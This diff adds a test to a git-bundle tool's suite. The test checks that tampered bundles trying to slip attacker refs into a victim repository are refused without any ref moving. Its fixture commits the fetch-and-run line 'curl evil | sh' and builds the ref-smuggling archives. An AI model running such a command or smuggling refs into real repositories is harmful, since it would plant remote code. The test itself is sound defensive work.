@@ -311,6 +311,53 @@ describe('bundles', () => {
     expect(readdirSync(path.join(c.gitDir(), 'gitrepro', 'tmp'))).toEqual([]);
   });
 
+  it('a records.bundle carrying any ref but the two record refs is refused before a ref of the victim moves', async () => {
+    const { r } = twoCommits();
+    const { code, data } = airGap(r);
+    const dir = sandboxOf(r);
+    const good = await entriesOf(data);
+    const manifest = JSON.parse(good[0]!.body!.toString('utf8'));
+    /** the good archive with `refs` bundled as its records (the manifest's sha256 and size made to match) */
+    const withRecords = (name: string, refs: string[]): string => {
+      const rec = path.join(dir, `${name}.bundle`);
+      r.git(['bundle', 'create', '-q', rec, ...refs]);
+      const bytes = readFileSync(rec);
+      const m = { ...manifest, records: { size: bytes.length, sha256: sha256(bytes) } };
+      const file = path.join(dir, `${name}.tar`);
+      writeFileSync(file, tarOf([{ name: 'manifest.json', body: Buffer.from(canonicalJson(m)) }, { name: 'records.bundle', body: bytes }, ...good.slice(2)]));
+      return file;
+    };
+    // the attacker's branch, to be slipped into the victim's refs
+    r.git(['checkout', '-q', '-b', 'evil']);
+    r.write('src/train.py', 'import os; os.system("curl evil | sh")\n');
+    r.commit('evil code');
+    for (const ref of ['refs/heads/main', 'refs/remotes/origin/main', 'refs/notes/gitrepro-x', 'refs/gitrepro/evil']) r.git(['update-ref', ref, 'HEAD']);
+    const hostile: [string, string[], RegExp][] = [
+      ['heads', ['refs/notes/gitrepro', 'refs/gitrepro/snapshots', 'refs/heads/main'], /refs\/heads\/main/],
+      ['head', ['refs/notes/gitrepro', 'refs/gitrepro/snapshots', 'HEAD'], /carries refs a gitrepro bundle never holds: HEAD/],
+      ['remotes', ['refs/notes/gitrepro', 'refs/gitrepro/snapshots', 'refs/remotes/origin/main'], /refs\/remotes\/origin\/main/],
+      // these two match the wildcard refspecs the records are fetched with
+      ['notes-like', ['refs/notes/gitrepro', 'refs/gitrepro/snapshots', 'refs/notes/gitrepro-x'], /refs\/notes\/gitrepro-x/],
+      ['gitrepro-ns', ['refs/notes/gitrepro', 'refs/gitrepro/snapshots', 'refs/gitrepro/evil'], /refs\/gitrepro\/evil/],
+    ];
+    const c = cloneBundle(r, code, 'refs-victim');
+    const state = path.join(c.gitDir(), 'gitrepro');
+    const stored = (): Record<string, number> => Object.fromEntries(Object.entries(listing(state)).filter(([f]) => f !== 'config.json')); // (the parse cache of gitrepro.yaml)
+    const before = { files: stored(), refs: c.git(['for-each-ref']).stdout };
+    for (const [name, refs, message] of hostile) {
+      const file = withRecords(name, refs);
+      const v = c.gr(['bundle', 'verify', file], { ok: [1] });
+      expect(v.stderr).toMatch(/records\.bundle carries refs a gitrepro bundle never holds/);
+      expect(v.stderr).toMatch(message);
+      const imp = c.gr(['bundle', 'import', file], { ok: [1] });
+      expect(imp.stderr).toMatch(/GITREPRO_BUNDLE_INVALID.*records\.bundle carries refs a gitrepro bundle never holds/);
+      expect(imp.stderr).toMatch(message);
+      expect(c.git(['for-each-ref']).stdout).toBe(before.refs);
+      expect(stored()).toEqual(before.files);
+    }
+    expect(c.git(['cat-file', '-e', r.head()], { ok: [1, 128] }).code).not.toBe(0); // not even the object came in
+  });
+
   it('verify reports a file that is not a tar, or not a gitrepro bundle, in one line with exit 1', () => {
     const { r } = twoCommits();
     const dir = sandboxOf(r);
